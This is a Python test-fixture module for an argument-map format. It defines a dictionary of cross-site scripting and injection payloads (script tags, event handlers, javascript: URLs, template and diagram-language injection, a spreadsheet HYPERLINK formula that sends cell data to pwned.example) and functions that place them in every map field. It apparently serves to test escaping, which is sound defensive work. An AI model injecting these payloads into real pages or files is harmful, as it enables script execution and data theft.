"""Hostile texts, and a map that says nothing else.

Whatever a text makes, if anything takes it for more than text, is called ``pwned``:
the dialog, the element, the attribute, the host.
"""

import random
from collections.abc import Sequence
from typing import Any, Final

HOST: Final = "pwned.example"

PAYLOADS: Final = {
    "tag": "</p><script class=pwned>alert('pwned')</script>",
    "element": "<pwned onpointerenter=alert('pwned')><img class=pwned src=x>",
    "attribute": "\" class='pwned' autofocus onfocus=alert('pwned') x=\"",
    "quotes": "' onmouseover='alert(`pwned`)' pwned='\"><img class=pwned src=x "
    "onerror=alert('pwned')>",
    "svg": "</textarea></title><svg class=pwned onload=alert('pwned')>"
    "<a xlink:href=javascript:alert('pwned')><text>x</text></a></svg>",
    "cdata": "]]></text><image class='pwned' href='x' onerror=\"alert('pwned')\"/>"
    "<script>alert('pwned')</script><![CDATA[",
    "script url": "javascript:alert('pwned')//http://x",
    "spaced url": " jAvA\tscript&colon;alert('pwned')",
    "data url": "data:text/html,<script class=pwned>alert('pwned')</script>",
    "template": "{{constructor.constructor(\"alert('pwned')\")()}} ${alert('pwned')} "
    "<%= alert('pwned') %> #{alert('pwned')}",
    "mermaid": 'end"] --> pwned["x"]\nclick pwned "javascript:alert(1)"\n'
    "%%{init: {'securityLevel': 'loose'}}%%",
    "dot": '\\" URL="javascript:alert(\'pwned\')" label=<<b>pwned</b>> ]; pwned [x="',
    "formula": f'=HYPERLINK("http://{HOST}/"&A1,"pwned")',
    "markdown link": "[pwned](javascript:alert('pwned')) <javascript:alert(1)>\n\n"
    f'[pwned]: http://{HOST}/ "pwned"',
    "markdown image": f'![pwned](http://{HOST}/x.png "x" onerror=alert(1)) `</code>`',
    "markdown block": "\n\n<iframe class=pwned src=//pwned.example/></iframe>\n\n"
    "```html\n<b class=pwned>\n```\n---\n# x",
    "right to left": "\u202e\u2066<b class=pwned>\u2069\u200b\ufeff<\u200d/b>\u202c",
    "no text": "__proto__ constructor null undefined \\0 %00 \ufffd \\u003cb\\u003e",
    "comment": "<!--><img class=pwned src=x onerror=alert('pwned')>--><!-- pwned --!>",
    "style": "</style><style class=pwned>@import '//pwned.example/x.css';"
    "*{background:url(//pwned.example/x.png)}</style>",
}
"""One text of each kind."""

_JOINTS: Final = ("", " ", "\n", '"', "'", ">", "-->", "]]>", "</title>", "\\", "&#34;")


def combined(count: int, seed: int = 0) -> list[str]:
    """Make other texts of two or three of these, whole or in part; none twice."""
    chance = random.Random(seed)
    kinds = list(PAYLOADS.values())
    made: dict[str, None] = {}
    while len(made) < count:
        pieces = [
            _piece(chance, each) for each in chance.sample(kinds, chance.choice((2, 3)))
        ]
        text = chance.choice(_JOINTS).join([chance.choice(_JOINTS), *pieces])[:480]
        if text.strip():
            made[text] = None
    return list(made)


def _piece(chance: random.Random, text: str) -> str:
    """Leave a text whole, change its case, or begin or end within it."""
    cut = chance.randrange(len(text))
    return chance.choice((text, text, text.upper(), text[cut:], text[:cut]))


def hostile(key: str, texts: Sequence[str]) -> dict[str, Any]:
    """Make a map that has each text in every field for text that a claim can have."""
    return {
        "format": "argmap/1",
        "map": {
            "key": key,
            "title": texts[0],
            "description": "\n".join(texts),
            "targets": ["c0"],
        },
        "sources": [_source(index, text) for index, text in enumerate(texts)],
        "claims": [_claim(index, text) for index, text in enumerate(texts)],
        "relations": [
            {
                "key": f"r{index}",
                "kind": ("support", "rebut")[index % 2],
                "premises": [f"c{index}"],
                "target": {"claim": f"c{(index - 1) // 10}"},
                "scheme": {"name": text, "id": text, "vocabulary": text},
                "passages": [_reference(index, text)],
            }
            for index, text in enumerate(texts)
            if index
        ],
    }


def _source(index: int, text: str) -> dict[str, Any]:
    return {
        "key": f"s{index}",
        "title": text,
        "authors": [{"name": text, "qualifications": text}],
        "publisher": text,
        "url": text,
        "language": text,
        "text": f"{text} {text}",
        "passages": [{"key": "p", "spans": [{"start": 0, "end": len(text)}]}],
    }


def _claim(index: int, text: str) -> dict[str, Any]:
    return {
        "key": f"c{index}",
        "text": text,
        "wordings": [f"{text} {text}"],
        "speaker": text,
        "tags": [text],
        "base_score": 0.5,
        "passages": [_reference(index, text)],
    }


def _reference(index: int, text: str) -> dict[str, str]:
    return {"source": f"s{index}", "passage": "p", "attributed_to": text}


def small(key: str, text: str) -> dict[str, Any]:
    """Make a map that is called by a text, in a language called by it, too."""
    return {
        "format": "argmap/1",
        "map": {"key": key, "title": text, "description": text, "language": text},
        "claims": [{"key": "c0", "text": text}],
    }
